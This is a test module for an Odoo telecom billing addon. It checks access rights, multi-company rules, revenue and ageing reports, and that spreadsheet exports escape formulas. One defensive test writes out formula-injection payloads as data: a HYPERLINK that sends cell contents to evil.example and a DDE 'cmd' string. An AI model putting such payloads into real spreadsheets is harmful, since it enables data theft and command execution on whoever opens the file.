# Copyright 2026 Telecom Suite contributors
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""Access rights of the bill-run models, multi-company rules, and the reports."""

import io
import zipfile
from datetime import date

import openpyxl

from odoo.exceptions import AccessError
from odoo.tests import TransactionCase, new_test_user, tagged

from ..tools import spreadsheet
from .billing_common import BillingFixtures


@tagged("post_install", "-at_install")
class TestBillingSecurityReports(BillingFixtures, TransactionCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls._setup_billing()
        cls.acc = cls._account("Report Customer")
        cls.sub = cls._sub(
            cls.acc, cls.mobile_m, date(2025, 5, 1), "+32470900001", addons=[cls.data_addon]
        )
        cls.bill_run = cls.bill(cls, date(2025, 6, 1), cls.acc)
        cls.invoice = cls.bill_run.line_ids.move_id
        cls.portal = new_test_user(cls.env, login="tb_sec_portal", groups="base.group_portal")

    def test_access_by_group(self):
        Run = self.env["telecom.bill.run"]
        run_user = Run.with_user(self.telecom_user)
        self.assertEqual(run_user.search([("id", "=", self.bill_run.id)]), self.bill_run)
        with self.assertRaises(AccessError):
            run_user.create({"date": date(2025, 7, 1), "billing_day": 1})
        run = Run.with_user(self.billing_user).create({"date": date(2025, 7, 1), "billing_day": 1})
        with self.assertRaises(AccessError):
            run.unlink()
        run.with_user(self.manager).unlink()
        for model in (
            "telecom.bill.run",
            "telecom.bill.run.line",
            "telecom.dunning.event",
            "telecom.dunning.level",
            "telecom.billed.recurring",
            "telecom.revenue.report",
        ):
            with self.subTest(model=model):
                self.assertFalse(self.env[model].with_user(self.portal).has_access("read"))
        self.assertFalse(
            self.env["telecom.dunning.level"].with_user(self.telecom_user).has_access("write")
        )
        self.assertTrue(
            self.env["telecom.dunning.level"].with_user(self.billing_user).has_access("write")
        )

    def test_summary_writes_text_never_formulas(self):
        """Names and errors chosen by customers or networks stay text in the XLSX."""
        hostile = {
            "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            "error": "@SUM(1+1)*cmd|' /C calc'!A0",
        }
        self.acc.partner_id.name = hostile["name"]
        self.bill_run.line_ids.sudo().write({"error": hostile["error"]})
        book = openpyxl.load_workbook(io.BytesIO(self.bill_run._telecom_summary_xlsx()))
        cells = [cell for row in book.active.iter_rows() for cell in row if cell.value]
        self.assertFalse([c.coordinate for c in cells if c.data_type == "f"])
        texts = {c.value for c in cells if c.data_type == "s"}
        self.assertIn(hostile["name"], texts)
        self.assertIn(hostile["error"], texts)
        with zipfile.ZipFile(io.BytesIO(self.bill_run._telecom_summary_xlsx())) as zf:
            self.assertNotIn("<f>", zf.read("xl/worksheets/sheet1.xml").decode())
        # the CSV side of the one helper: an apostrophe makes it text; numbers stay numbers
        self.assertEqual(spreadsheet.csv_cell("=1+2"), "'=1+2")
        self.assertEqual(spreadsheet.csv_cell("+32470000001"), "'+32470000001")
        self.assertEqual(spreadsheet.csv_cell("-x"), "'-x")
        self.assertEqual(spreadsheet.csv_cell("@x"), "'@x")
        self.assertEqual(spreadsheet.csv_cell("plain"), "plain")
        self.assertEqual(spreadsheet.csv_row([-1.5, 0, "a=b"]), [-1.5, 0, "a=b"])

    def test_multi_company(self):
        other = self.env["res.company"].create({"name": "Other Telco"})
        run = self.env["telecom.bill.run"].create(
            {"date": date(2025, 7, 1), "billing_day": 1, "company_id": other.id}
        )
        user = self.billing_user
        self.assertNotIn(run, self.env["telecom.bill.run"].with_user(user).search([]))
        self.assertIn(self.bill_run, self.env["telecom.bill.run"].with_user(user).search([]))

    def test_reports(self):
        # revenue: the invoice's lines per section, in company currency
        Revenue = self.env["telecom.revenue.report"]
        rows = Revenue._read_group(
            [("billing_account_id", "=", self.acc.id)], ["section"], ["amount:sum"]
        )
        self.assertEqual(dict(rows), {"recurring": self.invoice.amount_untaxed})
        by_product = dict(
            Revenue._read_group(
                [("billing_account_id", "=", self.acc.id)], ["product_id"], ["amount:sum"]
            )
        )
        self.assertEqual(by_product[self.mobile_m], 39.98)
        self.assertEqual(by_product[self.data_addon], 12.00)
        # MRR of June: 19.99 + 6.00; one subscription
        mrr = self.env["telecom.mrr.report"]._read_group(
            [("billing_account_id", "=", self.acc.id), ("month", "=", date(2025, 6, 1))],
            [],
            ["mrr:sum", "subscription_count:sum"],
        )
        self.assertEqual(mrr, [(25.99, 1)])
        kpi = self.env["telecom.kpi.report"].search(
            [("month", "=", date(2025, 6, 1)), ("company_id", "=", self.company.id)]
        )
        self.assertEqual(len(kpi), 1)
        self.assertGreaterEqual(kpi.revenue, self.invoice.amount_untaxed)
        self.assertAlmostEqual(kpi.arpu, kpi.revenue / kpi.subscription_count, places=2)
        # ageing: the unpaid invoice, far overdue today
        ageing = self.env["telecom.ar.ageing.report"].search(
            [("billing_account_id", "=", self.acc.id)]
        )
        self.assertEqual(ageing.residual, self.invoice.amount_total)
        self.assertEqual((ageing.bucket, ageing.days_over_90), ("over_90", ageing.residual))
        # the bill run summary as a spreadsheet
        content = self.bill_run._telecom_summary_xlsx()
        self.assertTrue(content.startswith(b"PK"))
        for model in (
            "telecom.revenue.report",
            "telecom.mrr.report",
            "telecom.kpi.report",
            "telecom.ar.ageing.report",
            "telecom.bill.run.line",
        ):
            views = self.env[model].get_views([(False, "pivot"), (False, "graph")])
            self.assertIn("pivot", views["views"])
